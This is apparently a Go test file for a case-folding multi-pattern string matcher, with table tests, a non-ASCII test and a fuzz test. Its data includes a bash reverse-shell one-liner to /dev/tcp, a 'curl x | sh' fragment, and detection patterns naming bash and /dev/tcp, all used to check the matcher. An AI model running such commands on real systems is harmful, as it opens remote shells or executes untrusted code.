package engine

import (
	"slices"
	"strings"
	"testing"
)

func TestAutomaton(t *testing.T) {
	patterns := []string{"he", "she", "his", "hers", "/bin/", "bash", "a", "dev/tcp"}
	a := buildAutomaton(patterns)
	tests := []struct {
		text string
		want []string
	}{
		{"ushers", []string{"he", "she", "hers"}},
		{"USHERS", []string{"he", "she", "hers"}},
		{"/BIN/BASH -i >& /dev/tcp/10.0.0.1/4444", []string{"/bin/", "a", "bash", "dev/tcp"}},
		{"", nil},
		{"xyz", nil},
		{"hishe", []string{"his", "he", "she"}},
	}
	for _, tt := range tests {
		var got []string
		for _, id := range a.findAll(tt.text) {
			got = append(got, patterns[id])
		}
		slices.Sort(got)
		want := slices.Clone(tt.want)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("findAll(%q) = %q, want %q", tt.text, got, want)
		}
	}
	if buildAutomaton(nil) != nil {
		t.Error("an automaton of no patterns")
	}
	if a.states() < 10 {
		t.Errorf("%d states", a.states())
	}
}

func TestAutomatonDuplicatesAndNonASCII(t *testing.T) {
	patterns := []string{"é", "x", "x", "\x00\xff"}
	a := buildAutomaton(patterns)
	got := a.findAll("aXé\x00\xff")
	slices.Sort(got)
	if !slices.Equal(got, []int32{0, 1, 2, 3}) {
		t.Errorf("found %v", got)
	}
	// Non-ASCII bytes are not folded.
	if got := a.findAll("É"); len(got) != 0 {
		t.Errorf("É found %v", got)
	}
}

// FuzzAutomaton compares the automaton with strings.Contains over
// ASCII-folded text, for a text and up to four patterns cut from one
// string.
func FuzzAutomaton(f *testing.F) {
	f.Add("the quick brown fox", "QUICK|fox|z|he")
	f.Add("/bin/bash -c 'curl x | sh'", "bash|CURL|| sh|/bin/b")
	f.Add("aaaaab", "aa|aab|b|aaaaaa")
	f.Add("Ünïcödé", "ü|Ü|cö|dé")
	f.Fuzz(func(t *testing.T, text, pats string) {
		var patterns []string
		for _, p := range strings.SplitN(pats, "|", 5)[:min(4, len(strings.SplitN(pats, "|", 5)))] {
			if p != "" {
				patterns = append(patterns, foldString(p))
			}
		}
		a := buildAutomaton(patterns)
		if a == nil {
			if len(patterns) > 0 {
				t.Fatalf("no automaton for %q", patterns)
			}
			return
		}
		found := map[int32]bool{}
		for _, id := range a.findAll(text) {
			found[id] = true
		}
		folded := foldString(text)
		for i, p := range patterns {
			if want := strings.Contains(folded, p); found[int32(i)] != want {
				t.Fatalf("pattern %q in %q: automaton %v, strings.Contains %v", p, text, found[int32(i)], want)
			}
		}
	})
}
